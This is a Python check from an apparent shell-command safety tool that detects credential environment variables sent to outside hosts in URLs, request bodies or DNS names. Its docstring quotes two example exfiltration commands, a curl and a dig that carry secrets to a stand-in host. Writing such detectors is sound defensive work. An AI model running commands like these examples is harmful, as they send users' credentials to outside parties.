"""Credentials held in environment variables sent away in a URL, a request body or a DNS
name (`curl "https://x.example/?k=$AWS_SECRET_ACCESS_KEY"`, `dig $DB_PASSWORD.x.example`).

The walker reads `$NAME` as a value unknown until run time, so this check reads the words as
written. The names are data: safety/rules/secret_variables.toml.
"""

from __future__ import annotations

import re
from collections.abc import Iterator
from fnmatch import translate
from functools import cache
from pathlib import Path
from typing import TYPE_CHECKING

from safety.checks.base import Hit, _program, _show
from safety.commands import DOWNLOADERS, NET_CLIENTS
from safety.datafile import read_toml

if TYPE_CHECKING:
    from safety.facts import Walk

NAMES_FILE = Path(__file__).resolve().parent.parent / "rules" / "secret_variables.toml"
# HTTP clients, raw sockets and DNS lookups; not ssh, gh or aws, where a credential passed
# on (`gh secret set K --body "$TOKEN"`) is usually the point.
_SENDERS = DOWNLOADERS | NET_CLIENTS | {"dig", "nslookup", "host", "drill", "kdig", "ping"}
_DNS = frozenset({"dig", "nslookup", "host", "drill", "kdig"})
_VARIABLE = re.compile(r"\$\{?([A-Za-z_][A-Za-z0-9_]{0,63})")
_HOST = re.compile(r"^(?:[a-z][\w+.-]*://)?(?:[^/@\s]*@)?([^/:?#\s]+)", re.I)
_MAX_WORD = 4096


@cache
def _data() -> tuple[re.Pattern[str], frozenset[str]]:
    data = read_toml(NAMES_FILE)
    names = "|".join(f"(?:{translate(str(g))})" for g in data["names"])
    return re.compile(names, re.I), frozenset(str(o) for o in data["auth_options"])


def _own_service(name: str, hosts: list[str]) -> bool:
    """GITHUB_TOKEN sent to api.github.com, TELEGRAM_BOT_TOKEN to api.telegram.org."""
    prefix = name.split("_", 1)[0].lower()
    return len(prefix) >= 3 and any(prefix in host for host in hosts)


# Where a credential is expected: this machine, and the token endpoints of a login flow.
_EXPECTED = re.compile(
    r"^(localhost|127\.\d+\.\d+\.\d+|\[?::1\]?)$|oauth|^login\.|^sso\.|^auth\.|^accounts\.",
    re.I,
)


def _destination(raw: str, name: str) -> bool:
    """`curl "$SLACK_WEBHOOK_URL" -d ...`: the variable is where the request goes, not data."""
    return re.match(r"^[\"']?\$\{?" + re.escape(name) + r"\b", raw) is not None


def _in_userinfo(raw: str, name: str) -> bool:
    """`https://x-access-token:$GH_TOKEN@github.com/...`: a login to that host, not a leak."""
    return re.search(r"://[^/@\s]*\$\{?" + re.escape(name) + r"\b[^/@\s]*@", raw) is not None


@_program
def sends_secret_variable(walker: Walk) -> Iterator[Hit]:
    names, auth_options = _data()
    source = walker.command
    for inv in walker.invocations:
        if inv.name not in _SENDERS or not inv.args:
            continue
        raws = [
            source[w.span[0] : w.span[1]] if 0 <= w.span[0] < w.span[1] <= len(source) else ""
            for w in inv.args
        ]
        if not any("$" in raw for raw in raws):
            continue
        hosts = [
            m.group(1).lower()
            for w in inv.args
            if not w.text.startswith("-")
            and (m := _HOST.match(w.text))
            and ("." in m.group(1) or m.group(1).lower() == "localhost")
        ]
        # httpie's `:8000/login` is this machine.
        hosts += ["localhost" for w in inv.args if re.match(r"^:\d", w.text)]
        for i, (word, raw) in enumerate(zip(inv.args, raws, strict=True)):
            if "$" not in raw or len(raw) > _MAX_WORD:
                continue
            option = raw.split("=", 1)[0] if raw.startswith("--") else None
            after_auth = i > 0 and inv.args[i - 1].text in auth_options
            if after_auth or option in auth_options:
                continue
            for m in _VARIABLE.finditer(raw):
                name = m.group(1)
                if not names.fullmatch(name) or _in_userinfo(raw, name):
                    continue
                if _own_service(name, hosts) or (hosts and all(_EXPECTED.search(h) for h in hosts)):
                    continue
                if inv.name not in _DNS and _destination(raw, name):
                    continue
                yield word.span, _show(f"{inv.name} … ${name}")
                return
